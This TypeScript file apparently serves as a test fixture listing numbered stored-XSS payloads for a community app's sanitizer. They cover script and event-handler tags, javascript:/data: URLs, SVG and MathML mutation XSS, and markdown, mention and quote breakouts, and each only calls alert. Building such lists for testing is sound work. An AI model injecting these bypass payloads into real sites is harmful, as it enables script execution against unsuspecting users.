/**
 * Stored-XSS payloads for the community: raw HTML and attributes, `javascript:`/`data:` URLs, SVG
 * and MathML, mutation XSS, markdown links and images, mentions and quotes. Each one, if it ran,
 * would call `alert(<its number>)` (the two base64 `data:` documents alert a fixed text). `kind` says how it is meant to reach a page.
 */
export interface Payload {
  n: number;
  kind: 'html' | 'markdown' | 'mention' | 'quote';
  body: string;
}

const MENTION = '00000000-0000-4000-8000-000000000000';

const list: [Payload['kind'], string][] = [
  ['html', '<script>alert({n})</script>'],
  ['html', '<img src=x onerror=alert({n})>'],
  ['html', '<svg onload=alert({n})>'],
  ['html', '<svg><script>alert({n})</script></svg>'],
  ['html', '<iframe src="javascript:alert({n})"></iframe>'],
  ['html', '<body onload=alert({n})>'],
  ['html', '<details open ontoggle=alert({n})>x</details>'],
  ['html', '<input autofocus onfocus=alert({n})>'],
  ['html', '<video><source onerror=alert({n})></video>'],
  ['html', '<audio src=x onerror=alert({n})>'],
  ['html', '<object data="javascript:alert({n})"></object>'],
  ['html', '<embed src="javascript:alert({n})">'],
  ['html', '<a href="javascript:alert({n})">click me</a>'],
  ['html', '<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>'],
  ['html', '<noscript><p title="</noscript><img src=x onerror=alert({n})>">'],
  ['html', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>'],
  ['html', '<svg><style><img src=x onerror=alert({n})></style></svg>'],
  ['html', '<marquee onstart=alert({n})>x</marquee>'],
  ['html', '<img src="x" onerror="&#97;lert({n})">'],
  ['html', '<scr<script>ipt>alert({n})</scr</script>ipt>'],
  ['html', '<<script>alert({n});//<</script>'],
  ['html', '<img """><script>alert({n})</script>">'],
  ['html', '<IMG SRC=x OnErRoR=alert({n})>'],
  ['html', '<svg/onload=alert({n})>'],
  ['html', '<img src=x:alert({n}) onerror=eval(src)>'],
  ['html', '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>'],
  ['html', '<select autofocus onfocus=alert({n})></select>'],
  ['html', '<textarea autofocus onfocus=alert({n})></textarea>'],
  ['html', '<svg><animate onbegin=alert({n}) attributeName=x dur=1s>'],
  ['html', '<svg><a xlink:href="javascript:alert({n})"><text x=20 y=20>svg link</text></a></svg>'],
  ['html', '<img src=x onerror=alert({n})//'],
  ['html', '<!--<img src="--><img src=x onerror=alert({n})//">'],
  ['html', '<svg><foreignObject><img src=x onerror=alert({n})></foreignObject></svg>'],
  ['html', '<xmp><img src=x onerror=alert({n})></xmp>'],
  ['html', '<a href="&#106;avascript:alert({n})">entity link</a>'],
  ['html', '<a href="java\tscript:alert({n})">tab link</a>'],
  ['html', '<div onmouseover="alert({n})" style="position:fixed;inset:0;z-index:9999">cover</div>'],
  ['html', '<image src=x onerror=alert({n})>'],
  ['html', '<img src=x onerror=alert`{n}`>'],
  ['html', '<svg><set attributeName=onload to=alert({n}) />'],
  ['html', '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoTik8L3NjcmlwdD4="></object>'],
  ['markdown', '[click](javascript:alert({n}))'],
  ['markdown', '[click](JaVaScRiPt:alert({n}))'],
  ['markdown', '[click](javascript&#58;alert({n}))'],
  ['markdown', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['markdown', '![x](x" onerror="alert({n}))'],
  ['markdown', '![x](javascript:alert({n}))'],
  ['markdown', '[x](https://example.com" onmouseover="alert({n}))'],
  ['markdown', '<javascript:alert({n})>'],
  ['markdown', '[a](<javascript:alert({n})>)'],
  ['markdown', '[ref]\n\n[ref]: javascript:alert({n})'],
  ['markdown', '[x](vbscript:alert({n}))'],
  ['markdown', '[![img](x)](javascript:alert({n}))'],
  ['markdown', '```html\n<script>alert({n})</script>\n```'],
  ['markdown', '`<img src=x onerror=alert({n})>`'],
  ['markdown', '| a |\n|---|\n| <img src=x onerror=alert({n})> |'],
  ['markdown', '* <svg onload=alert({n})>'],
  ['markdown', '# <img src=x onerror=alert({n})>'],
  ['mention', `@[<img src=x onerror=alert({n})>](mention:${MENTION})`],
  ['mention', `@[x](mention:${MENTION}" onmouseover="alert({n}))`],
  ['mention', '@[x](javascript:alert({n}))'],
  ['mention', `@[Bob](mention:${MENTION})<img src=x onerror=alert({n})>`],
  ['mention', `@[<svg onload=alert({n})>](mention:${MENTION})`],
  ['quote', '> <img src=x onerror=alert({n})>'],
  ['quote', '> [quoted](javascript:alert({n}))'],
  ['quote', '>>> <script>alert({n})</script>'],
  ['quote', '> <iframe srcdoc="<script>parent.alert({n})</script>"></iframe>'],
];

export const PAYLOADS: Payload[] = list.map(([kind, body], i) => ({
  n: i + 1,
  kind,
  body: body.replaceAll('{n}', String(i + 1)),
}));
